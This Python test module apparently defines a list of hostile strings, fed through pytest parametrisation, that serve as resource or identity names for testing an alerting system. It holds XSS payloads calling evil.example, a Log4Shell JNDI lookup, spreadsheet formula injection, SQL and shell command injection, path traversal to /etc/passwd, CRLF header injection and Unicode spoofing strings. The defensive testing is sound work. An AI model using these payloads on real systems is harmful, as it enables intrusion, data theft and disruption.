"""Names that somebody has given to a resource, an identity or an operation to harm whoever reads of it."""

import pytest

from tests.fakes.alerts import HOSTILE_NAMES

KNOWN: tuple[str, ...] = (
    *HOSTILE_NAMES.values(),
    # markup and mentions
    "<!here> <!everyone> <!subteam^S012AB3CD> <#C024BE7LR>",
    "@everyone @here @channel <@&1234>",
    "[x](javascript:alert(1)) ![y](https://evil.example/pixel.png)",
    "<img src=x onerror=alert(1)>",
    "```\n~~~\n> quoted\n- [ ] done\n| a | b |\n|---|---|",
    "*bold* _it_ ~gone~ `code` :skull: :warning:",
    "<mailto:ann@contoso.com|ann> <tel:+1234|call> http://evil.example www.evil.example",
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "</TextRun><Action.OpenUrl url='https://evil.example'/>",
    "<svg/onload=fetch('//evil.example')>",
    # what templates, shells, queries and formats take for theirs
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
    "${jndi:ldap://evil.example/a}",
    "{0} {detector} {name!r} %s %n %(x)s %00",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE alerts; --",
    '" | union * | take 1000 //',
    "$(reboot) `reboot` ; reboot && reboot | reboot",
    "../../../../etc/passwd\x00.png",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "(a+)+$ [[:alpha:]]* ^.*.*.*.*=",
    "*)(uid=*))(|(uid=*",
    # what ends a line, a header or a field early
    "ann\r\nSet-Cookie: x=1\r\n\r\n<html>",
    "ann\nERROR forged line level=critical",
    "ann\x0b\x0c\x1c\x1d\x1e\x1f\x85\u2028\u2029bob",
    "\x1eoperation\x1emicrosoft.compute/virtualmachines/write",
    "a\x1fb\x1ec",
    # what cannot be seen, or is not what it looks like
    "\u202e\u202dadmin\u202c",
    "\ufeffadmin\u200c\u200d\u2060\u180e",
    "\u0430dmin@contoso.com",
    "z" + "\u0300\u0489\u0353" * 200,
    "\U000e0061\U000e0062\U000e007f",
    "\u1160\u3164\uffa0",
    "\ufdfd" * 50,
    "\ue000\ufffe\uffff\U0010ffff",
    "\udfff\ud800 \ud83d",
    # what a program takes for something else
    "null",
    "undefined NaN Infinity -0 1e999",
    "__proto__ constructor prototype toString",
    "true",
    "0",
    "-",
    "unattributed",
    "operation/x",
    "digest/0000000000000000",
    "\\",
    '\\"\\\\"\\u0000',
    " \t ",
    ".",
    "/",
    "//////////",
    "%2e%2e%2f%00%0d%0a%ff",
    "a/" * 3_000,
    "x" * 200_000,
    "\N{PILE OF POO}\u200d" * 3_000,
)

each_hostile_name = pytest.mark.parametrize(
    "name",
    [pytest.param(name, marks=() if name in HOSTILE_NAMES.values() else pytest.mark.slow) for name in KNOWN],
    ids=range(len(KNOWN)),
)
"""Tries a test with each of `KNOWN`: in the quick check with a name of each sort, with all of them in `make test`."""
